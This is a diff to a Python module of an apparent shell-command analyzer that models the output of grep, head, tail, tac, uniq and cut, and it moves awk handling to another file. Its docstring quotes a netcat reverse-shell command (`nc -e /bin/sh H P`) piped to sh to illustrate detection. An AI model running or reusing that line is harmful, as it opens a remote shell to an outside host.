@@ -1,13 +1,14 @@
-"""What the line filters print for a known input: grep, head, tail, tac, uniq, cut, and awk's identity
-programs. `echo 'nc -e /bin/sh H P' | grep . | sh` runs nc; `echo 'nc -e ...' | grep -v nc | sh`
-runs nothing. Each is computed as GNU grep/coreutils/awk do for the forms below, and anything else
+"""What the line filters print for a known input: grep, head, tail, tac, uniq and cut.
+`echo 'nc -e /bin/sh H P' | grep . | sh` runs nc; `echo 'nc -e ...' | grep -v nc | sh`
+runs nothing. Each is computed as GNU grep and coreutils do for the forms below, and anything else
 is unknown (None): a wrong answer would have the reader read what does not run.
 
 - grep [-v] [-i] [-x] [-E|-F|-G] [-e PATTERN]... [PATTERN], reading its input (regexes as sed's,
   vigiles/analysis/sed.py); -q prints nothing;
 - head / tail with -n N, -N, --lines=N (tail also +N);
-- tac; uniq without options; cut -c LIST, or -f LIST with -d X (ASCII text only);
-- awk 1, awk '{print}', awk '{print $0}'.
+- tac; uniq without options; cut -c LIST, or -f LIST with -d X (ASCII text only).
+
+(awk programs are read by vigiles/analysis/awk.py.)
 """
 from __future__ import annotations
 
@@ -32,8 +33,6 @@ def output_of(name: str, args: list[str], stdin: str) -> str | None:
             return "".join(line + "\n" for line in kept)
         if name == "cut":
             return _cut(args, stdin)
-        if name in ("awk", "gawk", "mawk", "nawk") and len(args) == 1 and _IDENTITY.fullmatch(args[0]):
-            return "".join(line + "\n" for line in _lines(stdin))
     except (_Unknown, re2.error, ValueError, UnicodeError, MemoryError, StopIteration):
         return None
     return None
@@ -44,7 +43,6 @@ _GREP_UNSURE = re2.compile(r"\\[^wWsS.*\[\]^$\\/(){}+?|-]")
 both read alike are computed."""
 _GREP_UNSURE_WHOLE = re2.compile(r"[$^*]")
 """-x wraps the pattern, which moves where ^, $ and * are anchors or characters in a BRE."""
-_IDENTITY = re2.compile(r"\s*(?:1|\{\s*print\s*(?:\$0)?\s*;?\s*\})\s*")
 
 
 def _lines(text: str) -> list[str]:
